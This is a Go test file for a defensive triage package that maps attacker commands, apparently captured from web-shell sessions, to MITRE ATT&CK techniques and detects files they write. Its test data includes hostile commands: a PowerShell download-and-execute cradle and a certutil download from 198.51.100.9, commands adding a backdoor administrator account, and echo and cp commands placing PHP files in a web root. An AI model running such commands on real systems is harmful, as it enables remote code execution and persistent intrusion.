package triage

import (
	"slices"
	"strings"
	"testing"
)

func TestKnownCommands(t *testing.T) {
	ids := map[string]bool{}
	for _, r := range knownCommands {
		if ids[r.ID] || techniqueNames[r.Technique] == "" || len(r.Hit) == 0 || len(r.Miss) == 0 {
			t.Errorf("%s: id used twice, technique without a name, or no samples", r.ID)
		}
		ids[r.ID] = true
		fires := func(line string) bool {
			return slices.ContainsFunc(simpleCommands(line), r.re.MatchString)
		}
		for _, h := range r.Hit {
			if !fires(h) {
				t.Errorf("%s misses %q (%q)", r.ID, h, simpleCommands(h))
			}
		}
		for _, m := range r.Miss {
			if fires(m) {
				t.Errorf("%s fires on %q", r.ID, m)
			}
		}
	}
}

func TestCommandTechniques(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{`cmd /c "cd /d C:\inetpub\wwwroot\&whoami&echo [S]&cd&echo [E]"`, "T1033 T1059.003"},
		{`"cmd" /c "net user support x /add && net localgroup administrators support /add"`, "T1059.003 T1069 T1087 T1098 T1136"},
		{"/bin/sh -c 'id; uname -a'", "T1033 T1059.004 T1082"},
		{`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')"`, "T1059.001 T1105"},
		{`cd "/var/www/shop/";whoami;echo [S];pwd;echo [E]`, "T1033"},
		{"fread /etc/hostname", "T1005"},
		{"hello world", ""},
		{"", ""},
	} {
		if got := strings.Join(commandTechniques(c.line), " "); got != c.want {
			t.Errorf("%q is %q, want %q (%q)", c.line, got, c.want, simpleCommands(c.line))
		}
	}
}

// Commands are what an attacker wrote: whatever it is, the work is bounded and techniques are known ones.
func FuzzCommandTechniques(f *testing.F) {
	for _, r := range knownCommands {
		for _, h := range append(slices.Clone(r.Hit), r.Miss...) {
			f.Add(h)
		}
	}
	f.Fuzz(func(t *testing.T, line string) {
		parts := simpleCommands(line)
		if len(parts) > 2*maxCommands {
			t.Errorf("%d simple commands", len(parts))
		}
		for _, id := range commandTechniques(line) {
			if techniqueNames[id] == "" {
				t.Errorf("unknown technique %s", id)
			}
		}
	})
}

// A client's frame is taken off a command; what is no frame stays.
func TestGist(t *testing.T) {
	for in, want := range map[string]string{
		`cd "/var/www/shop/";whoami;echo [S];pwd;echo [E]`:                                 "whoami",
		`cd /d "C:\inetpub\wwwroot\"&netstat -an&echo [S]&cd&echo [E]`:                     "netstat -an",
		`"cmd" /c "cd /d C:\inetpub\wwwroot&net user /domain&echo [S]&cd&echo [E]"`:        "net user /domain",
		`"c:\windows\system32\cmd.exe" /c cd /d C:\inetpub\x\&whoami&echo [S]&cd&echo [E]`: "whoami",
		`cd /tmp; ls`:           "cd /tmp; ls",
		`echo hello; pwd`:       "echo hello; pwd",
		"opendir /var/www/x/":   "opendir /var/www/x/",
		strings.Repeat("a", 99): strings.Repeat("a", 59) + "…",
	} {
		if got := gist(in); got != want {
			t.Errorf("gist of %q is %q, want %q", in, got, want)
		}
	}
}

func TestMakesFiles(t *testing.T) {
	for line, want := range map[string][]string{
		"echo x > /srv/www/up2.php": {"/srv/www/up2.php"},
		"type web.config":           nil,
		`certutil -urlcache -f http://198.51.100.9/a c:\x\b.exe`: {`c:\x\b.exe`},
		"cp /tmp/a.txt /srv/www/i.php":                           {"/srv/www/i.php"},
		"fread /srv/www/includes/db.php":                         nil,
		`rar a c:\x\o.rar d:\data`:                               {`c:\x\o.rar`},
	} {
		var got []string
		if makesFiles(line, commandTechniques(line)) {
			got = namedFiles(line)
		}
		if !slices.Equal(got, want) {
			t.Errorf("%q leaves %q, want %q", line, got, want)
		}
	}
}
